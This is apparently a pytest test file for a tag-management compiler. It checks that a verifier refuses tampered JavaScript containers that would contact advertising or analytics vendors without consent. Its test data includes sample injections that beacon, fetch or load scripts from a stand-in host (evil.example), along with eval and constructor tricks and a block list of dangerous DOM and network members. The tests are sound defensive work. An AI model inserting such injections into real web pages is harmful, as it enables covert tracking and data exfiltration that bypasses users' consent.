"""Given a container and one change to it, verify refuses what could tell a vendor something without its gate."""

from __future__ import annotations

from dataclasses import replace
from functools import cache
from typing import TYPE_CHECKING

import pytest

from tagc.backends.browser.emit import Container, container, printed
from tagc.backends.browser.link import Label
from tagc.backends.browser.verify import verify
from tagc.compiler import parse, runtime
from tagc.diagnostics import Sink
from tagc.js.parse import parse as parse_script
from tagc.passes import run
from tagc.source import Files

if TYPE_CHECKING:
    from tagc.ir.program import Program

YAML = """
tagc: 1
container: attacked
consent:
  categories: [analytics, marketing]
platforms:
  ga4: {measurement_id: G-ABCDE12345, requires: analytics}
  meta: {pixel_id: 1234567890123456, requires: marketing}
  linkedin: {partner_id: 1234567, requires: {all: [analytics, marketing]}}
events:
  page_view: {}
  sale:
    event: purchase
    on: {data_layer: sale}
    once_per: $event.id
    params: {value: $event.total, currency: GBP, order_id: $event.id}
    platforms: {linkedin: {conversion: 12345}}
"""


@cache
def made() -> tuple[Container, Program]:
    found = parse(Files("tagc.yaml", YAML.encode()), Sink())
    assert found is not None
    program = run(found.program)
    return container(program, runtime(), readable=True), program


def reason(text: str, *, labels: tuple[Label, ...] | None = None) -> str | None:
    """What verify has against a text; the text is printed first, so that only its meaning differs."""
    original, program = made()
    tree = parse_script(text)
    changed = replace(
        original, text=printed(tree, readable=True), labels=original.labels if labels is None else labels
    )
    sink = Sink()
    if verify(changed, program, sink, name="container.js"):
        return None
    return sink.diagnostics[0].message.partition(": ")[2]


def with_code(old: str, new: str, *, extra: str = "page") -> str | None:
    """The reason after a change; statements that come new get a label of their own, as an attacker would give them."""
    original, _ = made()
    text = "".join(
        line for line in original.text.splitlines(keepends=True) if not line.lstrip().startswith("//")
    )
    assert text.count(old) >= 1, old
    return reason(text.replace(old, new, 1), labels=None if not extra else _labelled(new, old))


def _labelled(new: str, old: str) -> tuple[Label, ...]:
    """The labels with one more before the tail for a whole statement put in front of `old`."""
    labels = list(made()[0].labels)
    if new.endswith(old) and old == TAIL and new != old:
        labels.insert(
            next(at for at, label in enumerate(labels) if label == Label("page", "")), Label("page", "")
        )
    return tuple(labels)


TAIL = "pageView();"

ATTACKS = {
    "a vendor call in the tail": (TAIL, 'fbq("track", "x");' + TAIL),
    "a vendor call by way of window": (TAIL, 'window.fbq("track", "x");' + TAIL),
    "a vendor call by a computed name": (TAIL, 'window["f" + "bq"]("track", "x");' + TAIL),
    "a script in the tail": (TAIL, 'script("https://evil.example/");' + TAIL),
    "a stub in the tail": (TAIL, 'stub("fbq", "https://evil.example/", "x");' + TAIL),
    "a platform's loader in the tail": (TAIL, "metaLoad();" + TAIL),
    "a platform's loader handed on": (TAIL, "watchers.push(metaLoad);" + TAIL),
    "an image": (TAIL, 'new Image().src = "https://evil.example/";' + TAIL),
    "fetch": (TAIL, 'fetch("https://evil.example/");' + TAIL),
    "a beacon": (TAIL, 'navigator.sendBeacon("https://evil.example/");' + TAIL),
    "an element of its own": (TAIL, 'document.createElement("img");' + TAIL),
    "a cookie of its own": (TAIL, 'document.cookie = "a=b";' + TAIL),
    "storage of its own": (TAIL, 'localStorage.setItem("a", "b");' + TAIL),
    "window handed on": (TAIL, "watchers.push(window);" + TAIL),
    "eval": (TAIL, 'eval("1");' + TAIL),
    "Function": (TAIL, 'Function("1")();' + TAIL),
    "the constructor of a function": (TAIL, 'attempt.constructor("1")();' + TAIL),
    "the constructor by a computed name": (TAIL, 'attempt["con" + "structor"]("1")();' + TAIL),
    "document.write": (TAIL, 'document.write("<script>");' + TAIL),
    "an undeclared name": (TAIL, "somewhere(1);" + TAIL),
    "a vendor call when a rule fires": ('"Purchase"', 'fbq("track", "x") || "Purchase"'),
    "a vendor call beside the gate's functions": ('() => level("marketing"),', 'fbq("x") || (() => level("marketing")),'),
    "a vendor call inside the requirement": ('() => level("marketing"),', '() => fbq("x") || level("marketing"),'),
    "another category": ('() => level("marketing"),', '() => level("analytics"),'),
    "a constant instead of a category": ('() => level("marketing"),', "() => 2,"),
    "any instead of all": ('() => all(level("analytics"), level("marketing"))', '() => any(level("analytics"), level("marketing"))'),
    "all of less": ('() => all(level("analytics"), level("marketing"))', '() => level("analytics")'),
    "another vendor's call in a gate": ('fbq("init", "1234567890123456")', 'lintrk("track")'),
    "another vendor's loader in a gate": ("metaLoad();", "linkedinLoad(1); metaLoad();"),
    "gate under another name": (TAIL, "watchers.push(gate);" + TAIL),
}  # fmt: skip


def test_an_untouched_container_is_accepted() -> None:
    assert reason(made()[0].text) is None


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused(attack: str) -> None:
    old, new = ATTACKS[attack]
    why = with_code(old, new)
    assert why is not None
    assert "linker" not in why  # refused for what it does, not for how it was put in


@pytest.mark.parametrize(
    "member",
    [
        *(
            "write",
            "writeln",
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "srcdoc",
            "constructor",
            "__proto__",
        ),
        *("setAttribute", "createContextualFragment", "eval", "Function", "execScript"),
        *("sendBeacon", "fetch", "XMLHttpRequest"),
    ],
)
def test_a_member_that_makes_code_markup_or_requests_is_refused_on_any_object(member: str) -> None:
    assert with_code(TAIL, f"early.{member};{TAIL}") == f"it reaches for {member}"
    assert with_code(TAIL, f'early["{member}"];{TAIL}') == f"it reaches for {member}"


@pytest.mark.parametrize("name", ["eval", "Function", "importScripts", "execScript", "Reflect", "Proxy"])
def test_a_name_that_makes_code_of_text_or_hides_what_is_called_is_refused(name: str) -> None:
    assert with_code(TAIL, f"watchers.push({name});{TAIL}") == f"it names {name}"


def test_two_gates_exchanged_are_refused() -> None:
    original, _ = made()
    text = original.text.replace("hook_meta", "hook_x").replace("hook_linkedin", "hook_meta")
    text = text.replace('level("marketing")', 'level("x")').replace(
        'level("analytics")', 'level("marketing")'
    )
    assert reason(text.replace("hook_x", "hook_linkedin").replace('level("x")', 'level("analytics")'))


def test_a_text_that_prints_otherwise_is_refused() -> None:
    original, program = made()
    for text in (
        original.text.replace("const", "const ", 1),
        original.text + "<!-- x\n",
        original.text.replace('"purchase"', '"purch\\x61se"', 1),
        original.text.replace('"purchase"', '"purchäse"', 1),
        "\ufeff" + original.text,
        original.text[:-4],
    ):
        sink = Sink()
        assert not verify(replace(original, text=text), program, sink, name="container.js")
        assert [diagnostic.code.id for diagnostic in sink.diagnostics] == ["TAG701"]


def test_minified_containers_are_checked_in_the_same_way() -> None:
    _, program = made()
    short = container(program, runtime(), readable=False)
    assert verify(short, program, Sink(), name="container.js")
    late = short.text.index("typeof")
    attacked = replace(short, text=short.text[:late] + 'fbq("x")||typeof' + short.text[late + 6 :])
    sink = Sink()
    assert not verify(attacked, program, sink, name="container.js")
    assert "fbq" in sink.diagnostics[0].message
